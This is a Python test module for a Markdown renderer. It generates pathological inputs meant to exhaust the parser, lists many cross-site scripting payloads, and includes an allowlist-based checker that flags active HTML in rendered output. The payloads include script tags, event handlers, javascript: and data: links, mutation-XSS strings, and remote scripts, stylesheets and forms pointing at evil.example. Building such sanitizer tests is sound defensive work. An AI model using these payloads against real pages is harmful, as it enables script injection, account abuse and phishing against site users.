"""Hostile text: Markdown that asks for much work, markup that becomes active, and a check of the resulting HTML.

The first group is CommonMark's own list of pathological inputs; the others are what renderers are known to amplify.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from html.parser import HTMLParser
from itertools import count
from typing import Final
from urllib.parse import urlsplit

Shape = Callable[[int], str]


def _repeated(unit: str) -> Shape:
    return lambda size: (unit * (size // len(unit) + 1))[:size]


def _growing(line: Callable[[int], str]) -> Shape:
    """Lines made from 0, 1, 2 and on, until the size is reached."""

    def text(size: int) -> str:
        lines: list[str] = []
        length = 0
        for number in count():
            lines.append(line(number))
            length += len(lines[-1])
            if length >= size:
                return "".join(lines)[:size]
        raise AssertionError

    return text


def _after(start: str, unit: str) -> Shape:
    return lambda size: (start + unit * (size // len(unit) + 1))[:size]


def _table(size: int) -> str:
    """Columns and lines in equal number: a cell for each pair of them."""
    columns = max(1, size // 6)
    return "|" + "a|" * columns + "\n|" + "-|" * columns + "\n" + "a\n" * columns


COMMONMARK: Final[Mapping[str, Shape]] = {
    "nested strong emphasis": lambda size: "*a **a " * (size // 14) + "b" + " a** a*" * (size // 14),
    "many emphasis closers": _repeated("a_ "),
    "many emphasis openers": _repeated("_a "),
    "many link closers": _repeated("a]"),
    "many link openers": _repeated("[a"),
    "mismatched openers and closers": _repeated("*a_ "),
    "openers and closers multiple of 3": lambda size: ("a**b" + "c* " * size)[:size],
    "link openers and emphasis closers": _repeated("[ a_"),
    "pattern [ (](": _repeated("[ (]("),
    "pattern ![[]()": _repeated("![[]()"),
    "hard link and emphasis": _repeated("**x [a*b**c*](d)"),
    "nested brackets": lambda size: "[" * (size // 2) + "a" + "]" * (size // 2),
    "nested block quotes": lambda size: "> " * (size // 2) + "a",
    "deeply nested lists": _growing(lambda number: "  " * number + "* a\n"),
    "U+0000": _repeated("abc\0de\0"),
    "backticks": _growing(lambda number: "e" + "`" * number),
    "unclosed links <": _repeated("[a](<b"),
    "unclosed links": _repeated("[a](b"),
    "unclosed <!--": lambda size: ("</" + "<!--" * size)[:size],
    "empty lines in deeply nested lists": lambda size: "- " * 20 + "x" + "\n" * size,
    "many references": lambda size: "".join(f"[{number}]: u\n" for number in range(size // 16)) + "[0] " * (size // 8),
    "entities": _repeated("&amp;"),
    "backslashes": _repeated("\\*"),
    "declarations": _repeated("<!A "),
    "instructions": _repeated("<?"),
    "sections": _repeated("<![CDATA["),
}
AMPLIFYING: Final[Mapping[str, Shape]] = {
    "a cell for each column and line": _table,
    "one long definition used often": lambda size: "[a]: http://x/" + "b" * (size // 2) + "\n\n" + "[a]!" * (size // 8),
    "links without text": _repeated("[]()"),
    "mail addresses": _repeated("<a@b.c>"),
    "pasted addresses": _repeated("http://a "),
    "one long pasted address": _after("http://a", "a)("),
    "a pasted address and what closes it": _after("http://a(", ")."),
    "schemes of pasted addresses": _repeated("http://"),
    "targets that may be no links": _repeated("[a](b:c)"),
    "ampersands in cells": _after("|a|\n|-|\n", "|&|\n"),
    "lists of lists": _after("- " * 9 + "a\n", "- a\n"),
    "fences in lists": _repeated("- ```\n"),
    "tables of one line": _repeated("a|b\n-|-\n1|2\n\n"),
    "paragraphs of mail addresses": _repeated("<a@b.c>\n\n"),
    "percent signs in links": _repeated("[a](%zz%)"),
    "no-break spaces": _after("a", "\xa0"),
    "autolinks in emphasis in links": _repeated("[*_*<a:>*_*](b)"),
}
SLOW: Final[Mapping[str, Shape]] = {
    "lazy lines of nested quotes": _after(">" * 18 + "a\n", "a\n"),
    "quotes twenty deep": _repeated(">" * 20 + "a\n"),
    "items": _repeated("- a\n"),
    "items of three kinds": _repeated("- a\n+ a\n* a\n"),
    "items and lazy lines": _repeated("- a\nb\n"),
    "quotes and lists in turn": _repeated("> - "),
    "lists and quotes in turn": _repeated("- > "),
    "lines": _repeated("a\n"),
    "labels that are never closed": _repeated("[a\n"),
    "titles that are never closed": _after("[a]: u '", "x\n"),
    "open brackets": _repeated("["),
    "brackets far apart": lambda size: ("[" + "a*" * 120) * (size // 241),
    "targets that are never closed": lambda size: ("[a](" + "b" * 600) * (size // 604),
    "parentheses in targets": _repeated("[a](" + "(" * 32),
    "titles in parentheses": _repeated('[a](b "'),
    "runs of stars": lambda size: "*" * size,
    "runs of tildes": _repeated("~~~a"),
    "runs of backticks": _growing(lambda number: "`" * (number + 1) + " "),
    "less-than signs": _repeated("<"),
    "an address of many labels": lambda size: "<a@" + "a." * (size // 2) + "!>",
    "a host of many characters": lambda size: "[a](http://" + "漢字" * (size // 2) + ".example)",
    "rulers that are none": lambda size: ("- " * 100 + "a\n") * (size // 202 + 1),
    "headers that are none": _repeated("a|b\n-|-|-\n"),
    "fences of fewer backticks": lambda size: "".join("`" * (size - number) + "\n" for number in range(2)),
    "spaces at line ends": lambda size: ("a" + " " * 200 + "\n") * (size // 202),
    "headings": _repeated("# *a*\n"),
    "addresses": _repeated("https://a.example/b?c=d&e=f "),
    "beginnings of addresses": _repeated("http://"),
    "dots and at signs": _repeated("a@b."),
}
HOSTILE: Final[Mapping[str, Shape]] = {**COMMONMARK, **AMPLIFYING, **SLOW}


def hostile(size: int, shapes: Mapping[str, Shape] = HOSTILE) -> dict[str, str]:
    """The texts by what they are, none longer than this."""
    return {name: shape(size)[:size] for name, shape in shapes.items()}


PAYLOADS = (
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "</p><script>alert(1)</script><p>",
    "<script\n>alert(1)</script\t>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
    "<select onchange=alert(1)><option>1</select>",
    "<x onpointerrawupdate=alert(1)>x</x>",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/logout)",
    "[x](\\\\evil.example)",
    "[x](blob:https://ok.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://ok.example \"onmouseover=alert(1)\")",
    "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[a](<javascript:alert(1)>)",
    # images
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    "![\"onerror=\"alert(1)](x)",
    "[![x](https://evil.example/p.gif)](https://ok.example)",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    # mutation
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    # styles, frames, forms, redirects
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;inset:0\" class=\"modal\">x</p>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    # attributes that libraries act on
    "<div hx-get=\"/logout\" hx-trigger=\"load\">x</div>",
    "<div data-hx-post=\"/api/orgs/ours/tickets\" data-hx-trigger=\"revealed\">x</div>",
    "<a href=\"https://ok.example\" hx-on:click=\"alert(1)\" x-on:click=\"alert(1)\" @click=\"alert(1)\">x</a>",
    # Markdown tricks
    "```<script>alert(1)</script>\ncode\n```",
    "```js\" onload=\"alert(1)\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <b>1</b> | 2 |",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>\n1) [x](javascript:1)",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<https://ok.example/?a=\"><script>alert(1)</script>>",
    "<a@\"onmouseover=alert(1)>",
    # direction and invisible characters
    "\u202ehttps://live.example\u202c [https://bank.example](https://evil.example/\u202e)",
    "\u2066[x](javascript:alert(1))\u2069 \u2067abc",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
)  # fmt: skip

TAGS = frozenset({
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
})  # fmt: skip
REL = "nofollow noopener noreferrer"
#: What a code block may say of its language: nothing that ends an attribute, or names a class of the pages.
LANGUAGE = re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}")
TURNING = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        self.faults += [f"{tag} {name}={value}" for name, value in attrs if not _harmless(tag, name, value or "")]
        if tag == "a" and dict(attrs).get("rel") != REL:
            self.faults.append("link without rel")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}")


def _harmless(tag: str, name: str, value: str) -> bool:
    if (tag, name) == ("a", "href"):
        return urlsplit(value).scheme in {"http", "https", "mailto"}
    if (tag, name) == ("code", "class"):
        return LANGUAGE.fullmatch(value) is not None
    return (tag, name, value) == ("a", "rel", REL) or ((tag, name) == ("ol", "start") and value.isdigit())


def active_content(html: str) -> list[str]:
    """Everything a page must not get from a stranger; empty when the HTML is harmless."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return [*judge.faults, *(f"U+{ord(char):04X}" for char in sorted(TURNING & set(html)))]
